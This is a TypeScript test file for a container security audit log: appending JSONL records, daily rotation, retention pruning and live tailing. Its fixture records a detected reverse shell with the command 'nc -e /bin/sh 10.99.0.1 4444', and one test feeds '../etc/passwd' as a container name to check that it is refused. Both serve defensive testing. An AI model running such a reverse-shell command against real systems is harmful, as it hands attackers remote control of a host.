import {
  appendFileSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { listAuditFiles } from '../../../../src/security/audit/files.js';
import { parseRecord, type AuditRecord } from '../../../../src/security/audit/record.js';
import { pruneAuditFiles } from '../../../../src/security/audit/retention.js';
import { followAudit, readAudit } from '../../../../src/security/audit/tail.js';
import { AuditWriter, type AuditEntry } from '../../../../src/security/audit/writer.js';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'coi-audit-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

function entry(title = 'Reverse shell detected', container = 'coi-ab12cd34-1'): AuditEntry {
  return {
    container,
    workspace: '/home/dev/project',
    level: 'critical',
    category: 'process',
    title,
    description: 'netcat runs a program for the connection: nc -e /bin/sh 10.99.0.1 4444',
    evidence: {
      process: {
        pid: 4242,
        command: 'nc -e /bin/sh 10.99.0.1 4444',
        pattern: 'nc-exec',
        indicators: ['nc', '-e'],
      },
    },
    action: 'killed',
    detection_latency_ms: 37,
  };
}

function clock(iso: string): { now: () => Date; set(iso: string): void } {
  let at = new Date(iso);
  return { now: () => at, set: (next) => (at = new Date(next)) };
}

function waitFor<T>(check: () => T | undefined, ms = 3000): Promise<T> {
  const started = Date.now();
  return new Promise((resolve, reject) => {
    const tick = () => {
      const value = check();
      if (value !== undefined) return resolve(value);
      if (Date.now() - started > ms) return reject(new Error('timed out waiting'));
      setTimeout(tick, 10);
    };
    tick();
  });
}

describe('audit writer', () => {
  it('appends one JSON line per record with id, RFC 3339 UTC time and every field', async () => {
    const writer = new AuditWriter(dir, clock('2026-11-23T12:00:00.000Z').now);
    const written = await writer.append(entry());
    const lines = readFileSync(join(dir, 'coi-ab12cd34-1.jsonl'), 'utf8').split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toBe('');
    const record = JSON.parse(lines[0]!) as AuditRecord;
    expect(Object.keys(record)).toEqual([
      'id',
      'timestamp',
      'container',
      'workspace',
      'level',
      'category',
      'title',
      'description',
      'evidence',
      'action',
      'detection_latency_ms',
    ]);
    expect(record).toEqual(written);
    expect(record.id).toMatch(/^[0-9a-f-]{36}$/);
    expect(record.timestamp).toBe('2026-11-23T12:00:00.000Z');
    expect(statSync(join(dir, 'coi-ab12cd34-1.jsonl')).mode & 0o777).toBe(0o600);
  });

  it('only ever appends: earlier bytes and the inode stay the same', async () => {
    const writer = new AuditWriter(dir, clock('2026-11-23T12:00:00.000Z').now);
    await writer.append(entry('one'));
    const path = join(dir, 'coi-ab12cd34-1.jsonl');
    const before = readFileSync(path, 'utf8');
    const ino = statSync(path).ino;
    await Promise.all([writer.append(entry('two')), writer.append(entry('three'))]);
    const after = readFileSync(path, 'utf8');
    expect(after.startsWith(before)).toBe(true);
    expect(statSync(path).ino).toBe(ino);
    expect(
      after
        .trim()
        .split('\n')
        .map((l) => parseRecord(l).title),
    ).toEqual(['one', 'two', 'three']);
  });

  it('closes the file under its day when the UTC day changes, even across writer restarts', async () => {
    const time = clock('2026-11-22T23:59:59.000Z');
    await new AuditWriter(dir, time.now).append(entry('day one'));
    time.set('2026-11-23T00:00:01.000Z');
    await new AuditWriter(dir, time.now).append(entry('day two'));
    expect(readdirSync(dir).sort()).toEqual([
      'coi-ab12cd34-1.2026-11-22.jsonl',
      'coi-ab12cd34-1.jsonl',
    ]);
    const titles: string[] = [];
    await readAudit(dir, 'coi-ab12cd34-1', { onRecord: (r) => titles.push(r.title) });
    expect(titles).toEqual(['day one', 'day two']);
  });

  it('refuses container names that are not names', async () => {
    await expect(new AuditWriter(dir).append(entry('x', '../etc/passwd'))).rejects.toThrow(
      /not a container name/,
    );
  });
});

describe('audit retention', () => {
  it('deletes whole files whose newest record is older than the retention', async () => {
    const now = Date.parse('2026-11-23T12:00:00Z');
    writeFileSync(join(dir, 'c1.2026-10-01.jsonl'), '');
    writeFileSync(join(dir, 'c1.2026-11-20.jsonl'), '');
    writeFileSync(join(dir, 'c1.jsonl'), '');
    writeFileSync(join(dir, 'c2.jsonl'), '');
    writeFileSync(join(dir, 'notes.txt'), '');
    const old = new Date('2026-10-02T00:00:00Z');
    utimesSync(join(dir, 'c2.jsonl'), old, old);
    const deleted = await pruneAuditFiles(dir, 30, now);
    expect(deleted.map((p) => p.slice(dir.length + 1)).sort()).toEqual([
      'c1.2026-10-01.jsonl',
      'c2.jsonl',
    ]);
    expect(readdirSync(dir).sort()).toEqual(['c1.2026-11-20.jsonl', 'c1.jsonl', 'notes.txt']);
    expect(await pruneAuditFiles(dir, 0, now)).toEqual([]);
  });

  it('lists a container’s files oldest first with the active one last', async () => {
    for (const name of [
      'c1.jsonl',
      'c1.2026-11-21.jsonl',
      'c1.2026-11-20.1.jsonl',
      'c1.2026-11-20.jsonl',
      'c10.jsonl',
    ])
      writeFileSync(join(dir, name), '');
    const files = await listAuditFiles(dir, 'c1');
    expect(files.map((f) => f.name)).toEqual([
      'c1.2026-11-20.jsonl',
      'c1.2026-11-20.1.jsonl',
      'c1.2026-11-21.jsonl',
      'c1.jsonl',
    ]);
  });
});

describe('audit follow', () => {
  it('delivers existing records, then new ones as they are appended, across a day rotation', async () => {
    const time = clock('2026-11-22T23:00:00.000Z');
    const writer = new AuditWriter(dir, time.now);
    await writer.append(entry('before'));
    const seen: string[] = [];
    const problems: string[] = [];
    const follower = followAudit(join(dir, 'coi-ab12cd34-1.jsonl'), {
      onRecord: (r) => seen.push(r.title),
      onInvalid: (where, problem) => problems.push(`${where} ${problem}`),
      onError: (err) => problems.push(err.message),
    });
    try {
      await follower.ready;
      expect(seen).toEqual(['before']);
      await writer.append(entry('live'));
      await waitFor(() => (seen.length === 2 ? true : undefined));
      time.set('2026-11-23T00:00:01.000Z');
      await writer.append(entry('next day'));
      await waitFor(() => (seen.length === 3 ? true : undefined));
      expect(seen).toEqual(['before', 'live', 'next day']);
      expect(problems).toEqual([]);
    } finally {
      follower.close();
    }
  });

  it('waits for a file that does not exist yet, holds partial lines, and reports bad ones', async () => {
    const path = join(dir, 'sub', 'c9.jsonl');
    const seen: AuditRecord[] = [];
    const problems: string[] = [];
    const follower = followAudit(
      path,
      {
        onRecord: (r) => seen.push(r),
        onInvalid: (where) => problems.push(where),
        onError: (e) => problems.push(e.message),
      },
      { fromStart: false },
    );
    try {
      await follower.ready;
      const line = JSON.stringify({
        ...entry('split', 'c9'),
        id: 'x',
        timestamp: '2026-11-23T12:00:00Z',
      });
      appendFileSync(path, line.slice(0, 40));
      await new Promise((r) => setTimeout(r, 100));
      expect(seen).toEqual([]);
      appendFileSync(path, `${line.slice(40)}\nnot json\n`);
      await waitFor(() => (seen.length === 1 && problems.length === 1 ? true : undefined));
      expect(seen[0]?.title).toBe('split');
      expect(problems).toEqual([`${path}:2`]);
    } finally {
      follower.close();
    }
  });

  it('skips what is already there when asked to', async () => {
    await new AuditWriter(dir).append(entry('old'));
    const seen: string[] = [];
    const follower = followAudit(
      join(dir, 'coi-ab12cd34-1.jsonl'),
      { onRecord: (r) => seen.push(r.title), onError: () => undefined },
      { fromStart: false },
    );
    try {
      await follower.ready;
      await new AuditWriter(dir).append(entry('new'));
      await waitFor(() => (seen.length > 0 ? true : undefined));
      expect(seen).toEqual(['new']);
    } finally {
      follower.close();
    }
  });
});
